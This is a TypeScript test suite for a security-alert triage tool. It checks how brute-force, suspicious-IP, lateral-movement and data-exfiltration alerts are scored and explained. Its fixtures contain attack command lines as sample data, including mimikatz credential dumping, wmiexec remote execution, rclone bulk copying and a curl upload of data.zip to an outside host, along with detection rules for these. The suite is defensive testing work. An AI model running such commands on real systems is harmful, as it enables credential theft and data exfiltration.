import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { Alert } from '../../../domain/alert';
import { playbookFor } from '../../../domain/playbooks';
import { admin, brute, moved, outbound, sent } from './plain-alerts';
import { before, checkEarlierAlarm, checkSignals, factsOf, tells, type Situation } from './situations';

const ATTACKER = 'ip:185.220.101.1';
/** A public address of the site itself. */
const OWN = { src_ip: '93.184.216.7' };
const IRAN = { countries: { expected: [], watched: ['IR'] } };
const HOME = { countries: { expected: ['DE'], watched: [] } };
const WORK = {
  timezone: 'Europe/Berlin',
  days: ['mon', 'tue', 'wed', 'thu', 'fri'] as const,
  from: '07:00',
  to: '19:00',
};
const HOURS = { working_hours: { ...WORK, days: [...WORK.days] } };
const NIGHT = '2026-11-24T02:30:00Z';
const DAY = '2026-11-24T09:30:00Z';

describe('own signals of brute_force', () => {
  const many = (count: number): Situation => ({ alerts: { ...brute, failed_attempts: count } });
  const users = (count: number): Situation => ({
    alerts: Array.from({ length: count }, (_, index) => ({ ...brute, username: `user${index}` })),
  });
  const success = (change: Partial<Alert>): Situation => ({ alerts: { ...brute, outcome: 'success', ...change } });
  const from = (change: Partial<Alert>, site: Situation['site'], country = 'IR'): Situation => ({
    alerts: { ...brute, ...change },
    ...(site ? { site } : {}),
    told: [tells(`ip:${change.src_ip ?? brute.src_ip ?? ''}`, { country })],
  });
  const says = (description: string): Situation => ({ alerts: { ...brute, description } });

  checkSignals('brute_force', [
    {
      signal: 'many_attempts',
      points: 15,
      says: /^20 failed attempts; 20 are many here$/,
      when: many(20),
      not: { '19 of them': many(19), 'another limit of the site': { ...many(20), site: { many_attempts: 21 } } },
    },
    { signal: 'many_attempts', points: 25, says: /^200 failed attempts/, when: many(200), not: {} },
    { signal: 'many_attempts', points: 15, says: /^199 failed attempts/, when: many(199), not: {} },
    {
      signal: 'password_spray',
      points: 15,
      says: /^5 accounts were tried: user0, user1, user2 and 2 more$/,
      when: users(5),
      not: { 'four accounts': users(4), 'one account five times': { alerts: Array.from({ length: 5 }, () => brute) } },
    },
    {
      signal: 'privileged_account',
      points: 15,
      says: /^The privileged account CORP\\Administrator was tried$/,
      when: { alerts: { ...brute, username: 'CORP\\Administrator' } },
      not: {
        'an ordinary account': { alerts: brute },
        'an account named only like one': { alerts: { ...brute, username: 'administrator2' } },
        'an account that this site does not call so': {
          alerts: { ...brute, username: 'root' },
          site: { privileged_accounts: [] },
        },
      },
    },
    {
      signal: 'valid_account',
      points: 5,
      says: /^bob exists: only the password was wrong$/,
      when: says('Failed password for bob from 185.220.101.1 port 4711 ssh2'),
      not: {
        'no word of it': { alerts: brute },
        'an account that is not there': says('Failed password for invalid user bob from 185.220.101.1'),
        'a word of both': says('wrong password; then: no such user bob'),
        'the code of an unknown account': says('SubStatus 0xC0000064, wrong password'),
      },
    },
    { signal: 'valid_account', points: 5, says: /^bob exists/, when: says('SubStatus: 0xC000006A'), not: {} },
    {
      signal: 'success_after_failures',
      points: 55,
      says: /^bob was let in after 5 failed attempts$/,
      when: success({ failed_attempts: 5 }),
      not: {
        'no success': { alerts: brute },
        'no failure before': { alerts: { src_ip: '185.220.101.1', username: 'bob', outcome: 'success' } },
        'an alert that was let through, not in': { alerts: { ...brute, outcome: 'allowed' } },
      },
    },
    {
      signal: 'success_after_failures',
      points: 10,
      says: /after 4 failed attempts: a typo or two$/,
      when: success({ failed_attempts: 4 }),
      not: {},
    },
    {
      signal: 'success_after_failures',
      points: 35,
      says: /after failures that nobody counted$/,
      when: { alerts: { src_ip: '185.220.101.1', outcome: 'success', title: 'Too many invalid logins' } },
      not: {},
    },
    {
      signal: 'watched_country',
      points: 15,
      says: /^185\.220\.101\.1 is in IR, a country that this site watches$/,
      evidence: `1/geoip/${ATTACKER}`,
      when: from({}, IRAN),
      not: {
        'another country': from({}, IRAN, 'DE'),
        'a site that watches none': from({}, {}),
        'nobody who says where it is': { alerts: brute, site: IRAN },
        'an address of the site itself': from(OWN, IRAN),
        'a private address': from({ src_ip: '10.0.0.9' }, IRAN),
      },
    },
    {
      signal: 'unexpected_country',
      points: 15,
      says: /^185\.220\.101\.1 is in BR, from where nobody of this site works$/,
      evidence: `1/geoip/${ATTACKER}`,
      when: from({ outcome: 'success' }, HOME, 'BR'),
      not: {
        'a country where people work': from({ outcome: 'success' }, HOME, 'DE'),
        'a site that expects people anywhere': from({ outcome: 'success' }, {}, 'BR'),
        'no login that succeeded': from({ outcome: 'failure' }, HOME, 'BR'),
        'a watched country, which is told already': from(
          { outcome: 'success' },
          { countries: { expected: ['DE'], watched: ['BR'] } },
          'BR',
        ),
        'an address of the site itself': from({ ...OWN, outcome: 'success' }, HOME, 'BR'),
      },
    },
    {
      signal: 'tor_exit',
      points: 10,
      says: /^185\.220\.101\.1 is a Tor exit$/,
      evidence: `1/iocs/${ATTACKER}`,
      when: { alerts: brute, told: [tells(ATTACKER, { kinds: ['tor'] }, 'iocs')] },
      not: {
        'another anonymiser': { alerts: brute, told: [tells(ATTACKER, { kinds: ['anonymiser', 'hosting'] })] },
        'another address that is one': { alerts: brute, told: [tells('ip:185.220.101.2', { kinds: ['tor'] })] },
      },
    },
  ]);
  checkEarlierAlarm('brute_force', 15, brute, 'user:bob', 'host:web03');
});

describe('own signals of suspicious_ip', () => {
  const inward: Partial<Alert> = {
    src_ip: '185.220.101.1',
    dest_ip: '10.0.0.5',
    direction: 'inbound',
    hostname: 'web03',
  };
  const country = (alerts: Partial<Alert>, about = ATTACKER): Situation => ({
    alerts,
    site: IRAN,
    told: [tells(about, { country: 'IR' })],
  });
  const tor = (alerts: Partial<Alert>): Situation => ({ alerts, told: [tells(ATTACKER, { kinds: ['tor'] })] });

  checkSignals('suspicious_ip', [
    {
      signal: 'outbound_connection',
      points: 15,
      says: /^ws1, 10\.0\.0\.5 reached 185\.220\.101\.1: it was not only scanned$/,
      when: { alerts: { ...outbound, hostname: 'ws1' } },
      not: {
        'one from outside': { alerts: inward },
        'all of it blocked': { alerts: { ...outbound, outcome: 'blocked' } },
        'a destination inside': { alerts: { ...outbound, dest_ip: '10.0.0.8', direction: 'outbound' } },
      },
    },
    {
      signal: 'odd_port',
      points: 15,
      says: /^Port 4444 is a default of remote-control programs$/,
      when: { alerts: { ...outbound, dest_port: 4444 } },
      not: {
        'an ordinary port': { alerts: { ...outbound, dest_port: 443 } },
        'it as the port of the source': { alerts: { ...outbound, src_port: 4444, dest_port: 443 } },
      },
    },
    {
      signal: 'critical_host',
      points: 10,
      says: /^dc01 is a critical host$/,
      when: { alerts: { ...inward, hostname: 'dc01', outcome: 'allowed' } },
      not: {
        'nothing that got through': { alerts: { ...inward, hostname: 'dc01', outcome: 'blocked' } },
        'an alert that does not say whether it got through': { alerts: { ...inward, hostname: 'dc01' } },
        'a host like any other': { alerts: { ...inward, outcome: 'allowed' } },
      },
    },
    {
      signal: 'watched_country',
      points: 15,
      says: /^185\.220\.101\.1 is in IR/,
      evidence: `1/geoip/${ATTACKER}`,
      when: country(inward),
      not: {
        'the country of an inside address': country({ ...inward, src_ip: '10.0.0.9' }, 'ip:10.0.0.9'),
        'the country of an own public address': country({ ...inward, ...OWN }, `ip:${OWN.src_ip}`),
        'an address that is only mentioned': {
          ...country({ ...inward, src_ip: '45.155.205.233', raw_log: 'via 185.220.101.1' }),
        },
      },
    },
    {
      signal: 'tor_exit',
      points: 20,
      says: /^185\.220\.101\.1 is a Tor exit$/,
      evidence: `1/geoip/${ATTACKER}`,
      when: tor(outbound),
      not: {
        'what comes from one: sources have counted that': tor(inward),
        'nobody who says so': { alerts: outbound },
      },
    },
  ]);
  checkEarlierAlarm('suspicious_ip', 15, inward, ATTACKER, 'sha256:' + 'a'.repeat(64));
});

describe('own signals of lateral_movement', () => {
  const at = (timestamp: string, change: Situation): Situation => ({
    ...change,
    site: { ...HOURS, ...change.site },
    alerts: [change.alerts].flat().map((alert) => ({ ...alert, timestamp })),
  });
  checkSignals('lateral_movement', [
    {
      signal: 'remote_exec_tool',
      points: 30,
      says: /^wmiexec runs programs on other hosts$/,
      when: { alerts: { ...moved, command_line: 'python wmiexec.py bob@app1' } },
      not: {
        'another program': { alerts: { ...moved, process: 'explorer.exe' } },
        'a word that only holds one': { alerts: { ...moved, process: 'mywinrsx.exe' } },
      },
    },
    {
      signal: 'remote_exec_tool',
      points: 2,
      says: /^psexesvc runs programs on other hosts; the site allows this pair$/,
      when: { alerts: admin },
      not: {},
    },
    {
      signal: 'credential_theft',
      points: 25,
      says: /^The alert tells of stolen credentials: mimikatz$/,
      when: { alerts: { ...admin, command_line: 'mimikatz "sekurlsa::logonpasswords"' } },
      not: { 'routine work': { alerts: admin } },
    },
    {
      signal: 'admin_account',
      points: 20,
      says: /^root is a privileged account$/,
      when: { alerts: { ...moved, username: 'root' } },
      not: { 'an ordinary account': { alerts: moved } },
    },
    {
      signal: 'new_pair',
      points: 10,
      says: /^No allow-listed pair covers bob from ws1 to app1$/,
      when: { alerts: moved },
      not: { 'a pair that the site allows': { alerts: admin } },
    },
    {
      signal: 'new_pair',
      points: 10,
      says: /covers CORP\\svc-deploy from jump01\.corp\.example/,
      when: { alerts: { ...admin, src_ip: '10.0.0.66' } },
      not: {},
    },
    {
      signal: 'critical_host',
      points: 15,
      says: /^dc01\.corp\.example is a critical host$/,
      when: { alerts: { ...moved, dest_hostname: 'dc01.corp.example' } },
      not: { 'a host like any other': { alerts: moved } },
    },
    {
      signal: 'off_hours',
      points: 10,
      says: /^It happened on Tue 03:30 \(Europe\/Berlin\), when nobody works here$/,
      when: at(NIGHT, { alerts: moved }),
      not: {
        'a moment of work': at(DAY, { alerts: moved }),
        'working_hours null': at(NIGHT, { alerts: moved, site: { working_hours: null } }),
        'an alert without a time': { alerts: moved, site: HOURS },
        'an admin pair at night': at(NIGHT, { alerts: admin }),
      },
    },
    {
      signal: 'off_hours',
      points: 10,
      says: /Tue 03:30/,
      when: at(NIGHT, { alerts: { ...admin, command_line: 'mimikatz' } }),
      not: {},
    },
  ]);
  checkEarlierAlarm('lateral_movement', 30, moved, 'host:ws1', 'email:a@sender.com');
});

describe('own signals of data_exfil', () => {
  const LARGE = 100_000_000;
  const volume = (bytes_out: number, change: Partial<Alert> = {}): Situation => ({
    alerts: { ...sent, bytes_out, ...change },
  });
  const rented: Partial<Alert> = { hostname: 'ws1', dest_ip: '45.155.205.233', bytes_out: 1000 };
  const hosting = (alerts: Partial<Alert>, id = 'ip:45.155.205.233'): Situation => ({
    alerts,
    told: [tells(id, { kinds: ['hosting'], network: 'AS64496 Example Carrier' })],
  });
  const by = (username: string, risky_users: string[]): Situation => ({
    alerts: { ...sent, username },
    site: { risky_users },
  });
  const at = (timestamp: string, change: Partial<Alert> = {}, site: Situation['site'] = HOURS): Situation => ({
    alerts: { ...sent, timestamp, ...change },
    site,
  });
  const country = (dest_ip: string, change: Situation['site'] = {}): Situation => ({
    alerts: { ...rented, dest_ip },
    site: { ...IRAN, ...change },
    told: [tells(`ip:${dest_ip}`, { country: 'IR' })],
  });

  checkSignals('data_exfil', [
    {
      signal: 'large_transfer',
      points: 35,
      says: /^100 MB went out; 100 MB are much here$/,
      when: volume(LARGE),
      not: {
        'a byte less': volume(LARGE - 1),
        'another limit of the site': { ...volume(LARGE), site: { large_transfer_bytes: LARGE + 1 } },
      },
    },
    { signal: 'large_transfer', points: 45, says: /^1 GB went out/, when: volume(10 * LARGE), not: {} },
    {
      signal: 'large_transfer',
      points: 35,
      says: /^120 MB went out/,
      when: {
        alerts: [
          { ...sent, bytes_out: 60_000_000 },
          { ...sent, bytes_out: 60_000_000 },
        ],
      },
      not: {},
    },
    {
      signal: 'large_transfer',
      points: 10,
      says: /but to a known destination$/,
      when: volume(10 * LARGE, { domain: 'partner-files.com' }),
      not: {},
    },
    {
      signal: 'drop_site',
      points: 15,
      says: /^dropbox\.com is personal cloud storage, a file drop or a paste site$/,
      when: { alerts: { ...sent, domain: 'content.dropbox.com' } },
      not: {
        'another name': { alerts: sent },
        'a name that only ends like one': { alerts: { ...sent, domain: 'notdropbox.com' } },
        'one that the site knows': {
          alerts: { ...sent, domain: 'content.dropbox.com' },
          site: { known_destinations: ['dropbox.com'] },
        },
      },
    },
    {
      signal: 'rented_destination',
      points: 10,
      says: /^45\.155\.205\.233 is a rented machine without a name \(AS64496 Example Carrier\)$/,
      evidence: '1/geoip/ip:45.155.205.233',
      when: hosting(rented),
      not: {
        'a name beside the address': hosting({ ...rented, domain: 'somewhere.com' }),
        'a network that is not rented out': {
          alerts: rented,
          told: [tells('ip:45.155.205.233', { kinds: ['anonymiser'] })],
        },
        'an address that the site knows': hosting({ ...rented, dest_ip: '91.198.174.9' }, 'ip:91.198.174.9'),
        'an inside address': hosting({ ...rented, dest_ip: '10.0.0.8' }, 'ip:10.0.0.8'),
      },
    },
    {
      signal: 'copy_tool',
      points: 20,
      says: /^rclone was used, which copies in bulk or hides a transfer$/,
      when: { alerts: { ...sent, command_line: 'rclone copy C:\\share remote:x' } },
      not: {
        'another program': { alerts: { ...sent, process: 'chrome.exe' } },
        'curl that only fetches': { alerts: { ...sent, command_line: 'curl https://somewhere.com/a' } },
      },
    },
    {
      signal: 'copy_tool',
      points: 20,
      says: /^curl was used/,
      when: { alerts: { ...sent, command_line: 'curl -s -T data.zip https://somewhere.com/a' } },
      not: {},
    },
    {
      signal: 'risky_user',
      points: 20,
      says: /^CORP\\K\.Leaver is under special watch here$/,
      when: by('CORP\\K.Leaver', ['k.leaver']),
      not: { 'another user': by('bob', ['k.leaver']), 'a site that watches nobody': by('k.leaver', []) },
    },
    {
      signal: 'off_hours',
      points: 10,
      says: /^It happened on Sat 12:00 \(Europe\/Berlin\)/,
      when: at('2026-11-28T11:00:00Z'),
      not: {
        'a moment of work': at(DAY),
        'working_hours null': at(NIGHT, {}, { working_hours: null }),
        'a known destination': at(NIGHT, { domain: 'partner-files.com' }),
        'a destination inside': at(NIGHT, { domain: 'files.corp.example' }),
      },
    },
    {
      signal: 'watched_country',
      points: 15,
      says: /^45\.155\.205\.233 is in IR/,
      evidence: '1/geoip/ip:45.155.205.233',
      when: country('45.155.205.233'),
      not: {
        'a known destination there': country('91.198.174.9'),
        'the country of an inside address': country('10.0.0.8'),
        'a site that watches none': country('45.155.205.233', { countries: { expected: ['DE'], watched: [] } }),
      },
    },
  ]);
  checkEarlierAlarm('data_exfil', 20, sent, 'user:bob', 'sha256:' + 'a'.repeat(64));
});

describe('what was judged before', () => {
  test('is told once, however many incidents, and all of what they share is named', () => {
    const earlier = [before('user:bob'), before(['user:bob', ATTACKER], { id: 'INC-2', alert_type: 'phishing' })];
    const facts = factsOf({ alerts: brute, earlier });
    const told = playbookFor('brute_force')
      .signals(facts)
      .filter(({ name }) => name === 'earlier_alarm');
    assert.deepEqual(
      told.map(({ sentence }) => sentence),
      ['Within a day of it, bob, 185.220.101.1 were part of INC-1 (malware, malicious), INC-2 (phishing, malicious)'],
    );
  });
});
